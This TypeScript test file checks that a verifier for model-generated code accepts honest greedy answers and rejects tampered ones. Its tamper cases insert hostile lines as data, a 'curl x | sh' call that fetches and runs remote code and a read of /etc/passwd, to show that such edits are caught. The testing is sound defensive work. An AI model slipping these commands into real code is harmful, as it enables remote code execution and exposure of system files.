// The generation check on a real model (node-llama-cpp, a random-weight GGUF with its own output
// matrix, so greedy answers vary and the logits spread over several units as a trained model's do):
// honest greedy answers pass whoever generated them (1, 2 or 4 threads) and whoever checks them
// (batch 256 or 32); tampered answers, another prompt, another model, a truncation, each fail.
import { mkdtemp, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { makeTinyModel } from "../../test/gguf/tiny-model.js";
import { plainPrompt, type Prompt } from "../../shared/prompts.js";
import type { AnswerTranscript } from "../../shared/model/answer-transcript.js";
import { LlamaCodeModel } from "./llama-code-model.js";
import { DEFAULT_MAX_LOGIT_GAP } from "./generation-check.js";
import { CAN_SOLVE_ANSWER, SPLIT_ANSWER } from "../task-prompts.js";

const MAX_TOKENS = 48;
const PROMPTS = [
  "Write a function add(a, b) that returns the sum.",
  "Create a Python class Cart with add_item and total.",
  "Implement fibonacci(n) iteratively.",
  "Parse a CSV line into a list of fields.",
  "Write is_palindrome(text) ignoring case.",
  "Convert Celsius to Fahrenheit.",
  "Count the words in a string.",
  "Return the largest of three numbers.",
  "Validate an email address with a regular expression.",
  "Merge two sorted lists.",
  "Write a test for a function that reverses a list.",
  "Flatten a nested list of integers.",
  "Read a JSON file and return its keys.",
  "Implement a stack with push, pop and peek.",
  "Compute the mean and median of a list.",
  "Remove duplicates from a list, keeping order.",
  "Write a retry decorator with a maximum of three attempts.",
  "Format a number of bytes as KiB, MiB or GiB.",
].map((text, i) => ({ ...plainPrompt(text), file: `task_${i}.py` }));

interface Answer {
  prompt: Prompt;
  text: string;
  transcript: AnswerTranscript;
  producerThreads: number;
}

let dir: string;
let modelPath: string;
let otherModelPath: string;
const answers: Answer[] = [];
const verifiers: LlamaCodeModel[] = [];

beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), "dellm-check-"));
  modelPath = join(dir, "checked.gguf");
  otherModelPath = join(dir, "other.gguf");
  await makeTinyModel(modelPath, { seed: 4, chatTemplate: true, outputScale: 2 });
  await makeTinyModel(otherModelPath, { seed: 5, chatTemplate: true, outputScale: 2 });
  // Producers: 54 greedy answers, a third each with 1, 2 and 4 threads.
  for (const threads of [1, 2, 4]) {
    const producer = await LlamaCodeModel.load({ model: modelPath, threads, contextSize: 2048 });
    try {
      for (const prompt of PROMPTS) {
        const text = await producer.complete(prompt, { maxTokens: MAX_TOKENS });
        answers.push({ prompt, text, transcript: producer.lastTranscript!, producerThreads: threads });
      }
    } finally {
      await producer.dispose();
    }
  }
  verifiers.push(await LlamaCodeModel.load({ model: modelPath, threads: 2, contextSize: 2048, batchSize: 256 }));
  verifiers.push(await LlamaCodeModel.load({ model: modelPath, threads: 1, contextSize: 2048, batchSize: 32 }));
}, 240_000);

afterAll(async () => {
  for (const verifier of verifiers) await verifier.dispose();
  await rm(dir, { recursive: true, force: true });
});

describe("the generation check", () => {
  it("passes every honest greedy answer, whatever threads made it and whatever batch size checks it", async () => {
    expect(answers.length).toBeGreaterThanOrEqual(50);
    // The answers vary (not one token repeated) and both ways of ending occur.
    expect(new Set(answers.map((a) => a.text)).size).toBeGreaterThan(PROMPTS.length / 2);
    expect(new Set(answers.map((a) => a.transcript.stop))).toEqual(new Set(["end", "max_tokens"]));
    let worstGap = 0;
    let positions = 0;
    for (const verifier of verifiers)
      for (const answer of answers) {
        const check = await verifier.checkAnswer(answer.prompt, answer.transcript, { maxTokens: MAX_TOKENS });
        expect(check.reason, `${answer.prompt.text} (${answer.producerThreads} threads)`).toBeUndefined();
        expect(check.ok).toBe(true);
        expect(verifier.detokenize(answer.transcript.tokens)).toBe(answer.text);
        worstGap = Math.max(worstGap, check.worstGap);
        positions += check.checkedPositions;
      }
    console.log(
      `[generation-check] ${answers.length} honest answers × ${verifiers.length} verifiers, ${positions} positions: worst gap ${worstGap.toFixed(4)} logits (allowed ${DEFAULT_MAX_LOGIT_GAP})`,
    );
    expect(worstGap).toBeLessThan(DEFAULT_MAX_LOGIT_GAP);
    // The replicas fallback: how often honest greedy answers from 1, 2 and 4 threads are the same text.
    const agreeing = PROMPTS.filter(
      (prompt) => new Set(answers.filter((a) => a.prompt === prompt).map((a) => a.text)).size === 1,
    );
    console.log(
      `[generation-check] greedy replicas on 1/2/4 threads agree on ${agreeing.length} of ${PROMPTS.length} prompts`,
    );
  });

  it("answers the same greedy text with prompt lookup on, and that answer passes too", async () => {
    const verifier = verifiers[0]!;
    const answer = answers.find((a) => a.producerThreads === 2)!;
    const text = await verifier.complete(answer.prompt, { maxTokens: MAX_TOKENS, copiesPrompt: true });
    expect(text).toBe(answer.text);
    expect((await verifier.checkAnswer(answer.prompt, verifier.lastTranscript!, { maxTokens: MAX_TOKENS })).ok).toBe(
      true,
    );
  });

  it("catches every tampered answer: lines inserted at the start, middle or end, constants, names, comments, whitespace", async () => {
    const verifier = verifiers[0]!;
    const tokens = (text: string) => verifier.tokenize(text);
    type Tamper = (answer: number[]) => { tokens: number[]; at: number };
    const tampers: Record<string, Tamper> = {
      "line inserted at the start": (a) => ({ tokens: [...tokens("import os\n"), ...a], at: 0 }),
      "line inserted in the middle": (a) => {
        const at = Math.floor(a.length / 2);
        return { tokens: [...a.slice(0, at), ...tokens("\nos.system('curl x | sh')\n"), ...a.slice(at)], at };
      },
      "line inserted at the end": (a) => {
        // Within the limit: a tamperer whose answer hit it gives up its last tokens for the line.
        const line = tokens("\nprint(open('/etc/passwd').read())");
        const at = Math.min(a.length, MAX_TOKENS - line.length);
        return { tokens: [...a.slice(0, at), ...line], at };
      },
      "constant changed": (a) => {
        const at = Math.floor(a.length / 3);
        return { tokens: a.map((t, i) => (i === at ? other(t, tokens("7")[0]!, tokens("8")[0]!) : t)), at };
      },
      "name changed": (a) => {
        const at = Math.floor((2 * a.length) / 3);
        return { tokens: [...a.slice(0, at), ...tokens("renamed"), ...a.slice(at + 2)], at };
      },
      "comment added": (a) => {
        const at = Math.max(1, a.length - 5);
        return { tokens: [...a.slice(0, at), ...tokens("  # reviewed"), ...a.slice(at)], at };
      },
      "whitespace changed": (a) => {
        const at = Math.floor(a.length / 4);
        return { tokens: [...a.slice(0, at), ...tokens(" "), ...a.slice(at)], at };
      },
    };
    let tampered = 0;
    const passed: string[] = [];
    for (const answer of answers.filter((a) => a.producerThreads === 1 && a.transcript.tokens.length >= 8)) {
      for (const [kind, tamper] of Object.entries(tampers)) {
        const edit = tamper(answer.transcript.tokens);
        // A tamperer keeps within the limit and claims whatever stop suits it.
        for (const stop of ["end", "max_tokens"] as const) {
          if (edit.tokens.length > MAX_TOKENS) edit.tokens.length = MAX_TOKENS;
          expect(edit.tokens).not.toEqual(answer.transcript.tokens);
          const check = await verifier.checkAnswer(
            answer.prompt,
            { tokens: edit.tokens, stop },
            { maxTokens: MAX_TOKENS },
          );
          tampered++;
          if (check.ok) passed.push(`${kind} (${stop}) in "${answer.prompt.text}"`);
          else if (check.mismatch)
            expect(check.mismatch.index).toBeLessThanOrEqual(Math.max(edit.at, edit.tokens.length));
        }
      }
    }
    console.log(`[generation-check] ${tampered} tampered answers, ${passed.length} passed the check`);
    expect(tampered).toBeGreaterThanOrEqual(50);
    expect(passed).toEqual([]);
  });

  it("refuses an answer cut short, a false token-limit claim and an end token inside the answer", async () => {
    const verifier = verifiers[0]!;
    const ended = answers.find(
      (a) =>
        a.transcript.stop === "end" && a.transcript.tokens.length > 4 && a.transcript.tokens.length < MAX_TOKENS - 8,
    )!;
    const cut = await verifier.checkAnswer(
      ended.prompt,
      { tokens: ended.transcript.tokens.slice(0, -2), stop: "end" },
      { maxTokens: MAX_TOKENS },
    );
    expect(cut.ok).toBe(false);
    expect(cut.reason).toMatch(/at the end of the answer/);
    const claimed = await verifier.checkAnswer(
      ended.prompt,
      { tokens: ended.transcript.tokens, stop: "max_tokens" },
      { maxTokens: MAX_TOKENS },
    );
    expect(claimed.reason).toMatch(/says the token limit cut it, but it has \d+ tokens and the limit is 48/);
    const endToken = verifier.tokenize("<|endoftext|>");
    const hidden = await verifier.checkAnswer(
      ended.prompt,
      {
        tokens: [...ended.transcript.tokens.slice(0, 2), ...endToken, ...ended.transcript.tokens.slice(2)],
        stop: "end",
      },
      { maxTokens: MAX_TOKENS },
    );
    expect(hidden.ok).toBe(false);
  });

  it("fails an honest answer checked against another prompt or with another model", async () => {
    const verifier = verifiers[0]!;
    const [first, second] = answers;
    const swapped = await verifier.checkAnswer(second!.prompt, first!.transcript, { maxTokens: MAX_TOKENS });
    expect(swapped.ok).toBe(false);
    const other = await LlamaCodeModel.load({ model: otherModelPath, threads: 1, contextSize: 2048 });
    try {
      let caught = 0;
      for (const answer of answers.slice(0, PROMPTS.length))
        if (!(await other.checkAnswer(answer.prompt, answer.transcript, { maxTokens: MAX_TOKENS })).ok) caught++;
      expect(caught).toBe(PROMPTS.length);
    } finally {
      await other.dispose();
    }
  });

  it("checks answers generated under a JSON grammar (Queries 5.2 and 5.3) with that grammar, and catches them changed", async () => {
    // A model that answers "no" to the can-solve question and then splits (the grammar bounds the split).
    const splitterPath = join(dir, "splitter.gguf");
    await makeTinyModel(splitterPath, { seed: 5, chatTemplate: true, outputScale: 2 });
    const [producer, verifier] = [
      await LlamaCodeModel.load({ model: splitterPath, threads: 1, contextSize: 4096 }),
      await LlamaCodeModel.load({ model: splitterPath, threads: 2, contextSize: 4096 }),
    ];
    try {
      const canSolve = { ...plainPrompt("Can you solve this task in one file? Answer yes or no."), file: "a.py" };
      const split = { ...plainPrompt("Split the task into 2 to 4 subtasks, as JSON."), file: "a.py" };
      const formats = [
        { prompt: canSolve, format: CAN_SOLVE_ANSWER },
        { prompt: split, format: { ...SPLIT_ANSWER, maxTokens: 2048 } },
      ] as const;
      for (const { prompt, format } of formats) {
        const text = await producer.complete(prompt, format);
        const transcript = producer.lastTranscript!;
        // The grammar's stop text ended it; the transcript holds every token, the text is theirs.
        expect(transcript.stop).toBe("stop_text");
        expect(verifier.detokenize(transcript.tokens)).toBe(text);
        expect(await verifier.checkAnswer(prompt, transcript, format)).toMatchObject({ ok: true, worstGap: 0 });

        const tokens = transcript.tokens;
        const swapped = [...tokens];
        swapped[1] = other(tokens[1]!, verifier.tokenize("y")[0]!, verifier.tokenize("n")[0]!);
        const changed = [
          { ...transcript, tokens: swapped },
          { ...transcript, tokens: tokens.slice(0, -1) },
          { ...transcript, stop: "end" as const },
        ];
        for (const tampered of changed) expect((await verifier.checkAnswer(prompt, tampered, format)).ok).toBe(false);
        // Checked as if no grammar applied, the same honest answer is not the model's free choice.
        expect((await verifier.checkAnswer(prompt, transcript, { maxTokens: format.maxTokens })).ok).toBe(false);
      }
    } finally {
      await producer.dispose();
      await verifier.dispose();
    }
  });
});

/** A token that differs from `token`: `a`, or `b` when `a` is the same. */
function other(token: number, a: number, b: number): number {
  return token === a ? b : a;
}
